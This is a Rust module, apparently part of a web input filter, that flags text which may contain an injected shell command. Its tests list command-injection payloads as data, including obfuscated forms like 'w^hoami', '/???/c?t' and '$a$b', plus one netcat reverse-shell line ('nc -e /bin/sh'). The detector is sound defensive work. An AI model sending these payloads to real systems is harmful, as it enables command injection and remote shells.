//! Whether a text is worth reading as a command line: most have a semicolon or an apostrophe, and no command.
//!
//! A command has to be where one can begin: at the beginning, behind a quote, behind whatever ends another. What stands
//! there is looked up as it is, quotes and escapes left out; what expansions would make of it makes it worth reading.

use palisade_codec::ByteSet;

use super::known;

/// Bytes behind which a command can begin.
pub(super) const BREAKS: &[u8] = b";|&\n\r`$<>{";

/// Bytes of a word that are looked at.
const WORD_BYTES_MAX: usize = 64;

/// Bytes that may stand before a command, and mean nothing.
const SKIPPED: ByteSet = ByteSet::of(b" \t+('\"@!{");

/// Bytes that end a word.
const ENDS: ByteSet = ByteSet::of(b" \t\r\n;|&+<>");

/// Bytes of a word that is not what it looks like.
const SPELLED: ByteSet = ByteSet::of(b"$`%/\\-?*[.,'\"^()}]=");

/// Letters of the longest name.
const NAME_BYTES_MAX: usize = 24;

/// Whether anything in a text may be a command. O(n).
pub(super) fn worth_reading(text: &[u8], breaks: bool) -> bool {
    if may_begin(text, true) {
        return true;
    }
    if !breaks {
        return false;
    }
    let behind_quote =
        |quote| memchr::memchr(quote, text).is_some_and(|at| may_begin(&text[at + 1..], false));
    if behind_quote(b'\'') || behind_quote(b'"') {
        return true;
    }
    text.iter().enumerate().any(|(at, byte)| match byte {
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => may_begin(&text[at + 1..], false),
        b'$' => text.get(at + 1) == Some(&b'(') && may_begin(&text[at + 2..], false),
        b'<' | b'>' => text.get(at + 1) == Some(&b'('),
        _ => false,
    })
}

/// Whether a text begins with what may be a command; `alone`, with arguments.
fn may_begin(text: &[u8], alone: bool) -> bool {
    let skipped = text.iter().take(WORD_BYTES_MAX).take_while(|byte| SKIPPED.contains(**byte)).count();
    let braced = text[..skipped].contains(&b'{');
    let text = &text[skipped..];
    let window = &text[..text.len().min(WORD_BYTES_MAX)];
    let end = window.iter().position(|byte| ENDS.contains(*byte)).unwrap_or(window.len());
    let word = &window[..end];
    if word.is_empty() {
        return window.first() == Some(&b'<') && !alone;
    }
    // Most are words as they stand.
    if !word.iter().any(|byte| SPELLED.contains(*byte)) {
        let arguments = !alone || end < text.len();
        return arguments
            && word.len() <= NAME_BYTES_MAX
            && known::kind(&word.to_ascii_lowercase()).is_some();
    }
    // What it is only shows when it is expanded.
    if word.iter().any(|byte| b"$`%".contains(byte)) && !alone
        || word[0] == b'/' && word.iter().any(|byte| b"?*[".contains(byte))
        || word[0] == b'-' && word.contains(&b'=')
        || word == b"-o" && window.contains(&b'=')
        || braced && word.contains(&b',')
        || word.starts_with(b"./")
        || (word.starts_with(b"$'") || word.starts_with(b"${")) && alone
    {
        return true;
    }
    let mut name = [0; WORD_BYTES_MAX];
    let mut len = 0;
    for byte in word {
        match byte {
            b'\'' | b'"' | b'^' => {}
            b'\\' if len > 0 && word.first() != Some(&b'\\') && word.get(1) != Some(&b':') => {}
            // A folder's; the rest is the name.
            b'/' | b'\\' if !alone || word[0] == b'/' || word.get(1) == Some(&b':') => {
                if name[..len].eq_ignore_ascii_case(b"tmp") || name[..len].eq_ignore_ascii_case(b"shm") {
                    return true;
                }
                // `dir/s`.
                if len > 0 && known::kind(&name[..len]).is_some() {
                    return true;
                }
                len = 0;
            }
            b'(' | b')' | b',' | b'}' | b']' | b'`' | b'$' | b'%' | b'=' => break,
            byte => {
                name[len] = byte.to_ascii_lowercase();
                len += 1;
            }
        }
    }
    let name = &name[..len];
    let stem = memchr::memrchr(b'.', name).map_or(name, |dot| &name[..dot]);
    let program = name.len() > stem.len()
        && [&b"exe"[..], b"com", b"bat", b"cmd", b"ps1", b"vbs"].contains(&&name[stem.len() + 1..]);
    let known =
        program || known::kind(name).is_some() || known::kind(stem).is_some() || known::is_cmdlet(name);
    // A name alone at the beginning is a word.
    known && (!alone || end < text.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_may_hold_a_command_is_read() {
        for text in [
            "; id",
            "x|who\"am\"i",
            "a & net view",
            "nc -e /bin/sh 1.2.3.4 9",
            "`id`",
            "x$(id)",
            ";${x}id",
            "&w^hoami",
            "'echo 1;",
            ";c\\at /x",
            ";/bin//sh",
            "&C:\\Windows\\System32\\cmd.exe /c",
            ";{ls,-l}",
            ";a=c;b=at;$a$b",
            "|calc.exe",
            "; Get-Content x",
            ";\n\n ls",
            "/???/c?t /x",
            ";/tmp/x",
            ";+cat+/x",
            "&dir/s",
        ] {
            assert!(worth_reading(text.as_bytes(), true), "{text}");
        }
    }

    #[test]
    fn ordinary_texts_are_not() {
        for text in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "Please leave it at the back door; I'm home after 5 pm & later",
            "Steel bottle, 0.5l & lid",
            "https://shop.example.com/p/1?a=2&page=3",
            "text/html; charset=utf-8",
            "O'Brien",
        ] {
            assert!(!worth_reading(text.as_bytes(), true), "{text}");
        }
    }
}
